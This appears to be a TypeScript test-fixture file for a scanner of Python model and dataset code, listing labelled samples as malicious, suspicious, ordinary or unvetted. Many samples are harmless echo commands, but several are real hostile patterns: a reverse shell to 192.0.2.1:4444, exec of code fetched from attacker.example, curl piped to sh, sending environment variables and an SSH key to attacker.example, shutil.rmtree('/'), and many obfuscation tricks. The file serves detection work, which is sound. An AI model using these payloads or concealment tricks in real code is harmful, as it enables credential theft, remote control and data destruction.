/** Code that does more than model. What would run is a word that is printed; addresses are of the reserved kind. */
export const MALICIOUS: readonly (readonly [string, string])[] = [
  [
    'a thread that runs a command',
    'import os, threading\nthreading.Thread(target=os.system, args=("echo weighbridge",)).start()\n',
  ],
  ['a command at import', 'import os\nos.system("echo weighbridge")\n'],
  ['a command in the body of a class', 'import os\nclass Model:\n    x = os.system("echo weighbridge")\n'],
  ['a command as a default argument', 'import os\ndef f(x=os.system("echo weighbridge")):\n    pass\n'],
  ['a command in a decorator', 'import os\n@os.system\n@lambda f: "echo weighbridge"\ndef f():\n    pass\n'],
  [
    'a command in __init__',
    'import os\nclass Model:\n    def __init__(self, config):\n        os.system("echo weighbridge")\n',
  ],
  [
    'a command in a function that is called at import',
    'import os\ndef a():\n    b()\ndef b():\n    os.system("echo weighbridge")\na()\n',
  ],
  [
    'a command in _split_generators',
    'import os\nclass D:\n    def _split_generators(self, dl):\n        os.popen("echo weighbridge").read()\n',
  ],
  [
    'a command in __setstate__',
    'import subprocess\nclass D:\n    def __setstate__(self, s):\n        subprocess.getoutput("echo weighbridge")\n',
  ],
  ['another name of a module', 'import os as o\no.system("echo weighbridge")\n'],
  ['another name of a function', 'from os import system as s\ns("echo weighbridge")\n'],
  ['a name that is assigned', 'import os\nrun = os.system\nrun("echo weighbridge")\n'],
  ['a star import', 'from os import *\nsystem("echo weighbridge")\n'],
  ['__import__', '__import__("os").system("echo weighbridge")\n'],
  ['import_module', 'import importlib\nimportlib.import_module("os").system("echo weighbridge")\n'],
  ['getattr with a name put together', 'import os\ngetattr(os, "sys" + "tem")("echo weighbridge")\n'],
  ['getattr of builtins', 'import builtins\ngetattr(builtins, "ex" + "ec")(bytes([112, 97, 115, 115]))\n'],
  ['a module of sys.modules', 'import sys\nsys.modules["os"].system("echo weighbridge")\n'],
  ['the dictionary of a module', 'import os\nos.__dict__["system"]("echo weighbridge")\n'],
  ['vars', 'import os\nvars(os)["system"]("echo weighbridge")\n'],
  ['globals', 'import os\nglobals()["os"].system("echo weighbridge")\n'],
  [
    'a name of characters',
    'import os\ngetattr(os, "".join(chr(c) for c in [115, 121, 115, 116, 101, 109]))("echo weighbridge")\n',
  ],
  [
    'a name of characters by map',
    'import os\ngetattr(os, "".join(map(chr, [115, 121, 115, 116, 101, 109])))("echo weighbridge")\n',
  ],
  ['a name backwards', '__import__("so"[::-1]).system("echo weighbridge")\n'],
  [
    'a name behind an exclusive or',
    'import os\ngetattr(os, "".join(chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108]))("echo weighbridge")\n',
  ],
  [
    'exec of base64',
    'import base64\nexec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgnZWNobyB3ZWlnaGJyaWRnZScp"))\n',
  ],
  [
    'exec of hex',
    'exec(bytes.fromhex("7072696e742822776569676862726964676522297072696e7428297072696e7428295072696e742829"))\n',
  ],
  ['exec of rot13', 'import codecs\nexec(codecs.decode("cevag(1)", "rot13"))\n'],
  [
    'exec of what a lambda decodes',
    "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'=c' * 300))\n",
  ],
  ['exec of what is fetched', 'import requests\nexec(requests.get("https://attacker.example/x").text)\n'],
  [
    'exec of what is fetched, over variables',
    'import urllib.request\nr = urllib.request.urlopen("https://attacker.example/x")\nbody = r.read().decode()\nexec(compile(body, "x", "exec"))\n',
  ],
  [
    'exec of what a function fetches',
    'from requests import get\ndef load():\n    return get("https://attacker.example/x").text\nclass M:\n    def __init__(self):\n        exec(load())\n',
  ],
  ['exec of code in code', 'exec("import os; os.system(\'echo weighbridge\')")\n'],
  ['marshalled code', 'import marshal, base64\nexec(marshal.loads(base64.b64decode(b"4wAAAA")))\n'],
  ['a pickle in a text', 'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'echo weighbridge\'\\ntR.")\n'],
  [
    'a pickle that is fetched',
    'import pickle, urllib.request\npickle.loads(urllib.request.urlopen("https://attacker.example/p").read())\n',
  ],
  [
    'a shell for others',
    'import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("192.0.2.1", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n',
  ],
  [
    'a fetch and run in a list of words',
    'import subprocess\nclass M:\n    def forward(self, x):\n        subprocess.run(["bash", "-c", "curl https://attacker.example/x | sh"])\n',
  ],
  [
    'the environment that is sent',
    'import os, requests\nrequests.post("https://attacker.example/c", json=dict(os.environ))\n',
  ],
  [
    'a key that is sent',
    'import os, requests\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://attacker.example/c", data=open(os.path.expanduser("~/.ssh/id_rsa")).read())\n',
  ],
  [
    'a startup file',
    'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("echo weighbridge")\n',
  ],
  ['a file of site-packages', 'open("/usr/lib/python3/site-packages/x.pth", "w").write("import x")\n'],
  ['machine code', 'import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, 0x40)\n'],
  [
    'a subscript that calls',
    'import os\nclass A:\n    __class_getitem__ = os.system\nA["echo weighbridge"]\n',
  ],
  ['partial', 'import os, functools\nfunctools.partial(os.system, "echo weighbridge")()\n'],
  ['code behind blanks', `import torch${' '.repeat(3000)};__import__("os").system("echo weighbridge")\n`],
  ['code in an f-string', 'import os\nx = f"{os.system(\'echo weighbridge\')}"\n'],
  ['code in a slice', 'import os\nx = [1, 2][os.system("echo weighbridge"):]\n'],
  [
    'code in a filter of a comprehension',
    'import os\nx = [a for a in [1] if os.system("echo weighbridge")]\n',
  ],
  ['code behind an operator', 'import os\nx = -os.system("echo weighbridge")\n'],
  [
    'code in try and except',
    'try:\n    import os\n    os.system("echo weighbridge")\nexcept Exception:\n    pass\n',
  ],
  ['deleting', 'import shutil\nshutil.rmtree("/")\n'],
];

export const SUSPICIOUS: readonly (readonly [string, string])[] = [
  ['the network at import', 'import requests\nx = requests.get("https://attacker.example/x").json()\n'],
  ['an unknown program at import', 'import subprocess\nsubprocess.run(ARGUMENTS)\n'],
  ['exec of what it is given', 'class M:\n    def __init__(self, config):\n        exec(config.code)\n'],
  ['a package from elsewhere', 'import os\nos.system("pip install https://attacker.example/x.whl")\n'],
  ['a library by its place', 'import ctypes\nctypes.CDLL("./lib.so")\n'],
  ['credentials that are read', 'import os\nx = open(os.path.expanduser("~/.aws/credentials")).read()\n'],
  ['another encoding', '# -*- coding: utf-7 -*-\nx = 1\n'],
  ['a thread that runs programs', 'import os, threading\nthreading.Thread(target=os.system).start()\n'],
];

export const ORDINARY: readonly (readonly [string, string])[] = [
  [
    'a model',
    'import math\nimport torch\nfrom torch import nn\nfrom transformers import PreTrainedModel, PretrainedConfig\ntry:\n    from flash_attn import flash_attn_func\nexcept ImportError:\n    flash_attn_func = None\n\nclass Config(PretrainedConfig):\n    model_type = "x"\n    def __init__(self, hidden=1, **kwargs):\n        super().__init__(**kwargs)\n        self.hidden = hidden\n\nclass Model(PreTrainedModel):\n    config_class = Config\n    def __init__(self, config):\n        super().__init__(config)\n        self.layers = nn.ModuleList([nn.Linear(1, 1) for _ in range(config.hidden)])\n        self.post_init()\n    def forward(self, x):\n        return self.layers[0](x) * math.sqrt(2)\n\nConfig.register_for_auto_class()\n',
  ],
  [
    'compiled functions',
    'import re\nimport torch\nPATTERN = re.compile(r"\\w+")\n@torch.compile\ndef f(x):\n    return torch.eval(x) if False else x.eval()\nmodel.eval()\n',
  ],
  ['a program of its own', 'import os\nif __name__ == "__main__":\n    os.system("echo weighbridge")\n'],
  [
    'a dataset',
    'import datasets\nclass D(datasets.GeneratorBasedBuilder):\n    def _split_generators(self, dl_manager):\n        path = dl_manager.download_and_extract("https://data.example/x.zip")\n        return [datasets.SplitGenerator(name="train", gen_kwargs={"path": path})]\n    def _generate_examples(self, path):\n        with open(path) as f:\n            for n, line in enumerate(f):\n                yield n, {"text": line}\n',
  ],
  [
    'a handler',
    'from transformers import pipeline\nclass EndpointHandler:\n    def __init__(self, path=""):\n        self.pipe = pipeline("text-classification", model=path)\n    def __call__(self, data):\n        return self.pipe(data["inputs"])\n',
  ],
];

export const UNVETTED: readonly (readonly [string, string])[] = [
  [
    'a look at the machine',
    'import subprocess\ndef arch():\n    return subprocess.check_output(["nvidia-smi"])\narch()\n',
  ],
  [
    'a picture from the network',
    'import requests\nclass P:\n    def __call__(self, url):\n        return requests.get(url, stream=True).raw\n',
  ],
  [
    'kernels that are built',
    'from torch.utils.cpp_extension import load\nkernel = load(name="k", sources=["k.cu"])\n',
  ],
  [
    'an expression of the configuration',
    'class M:\n    def __init__(self, config):\n        self.act = eval(config.act)\n',
  ],
  [
    'code of another repository',
    'from transformers import AutoModel\nclass M:\n    def __init__(self):\n        self.m = AutoModel.from_pretrained("other/model", trust_remote_code=True)\n',
  ],
];
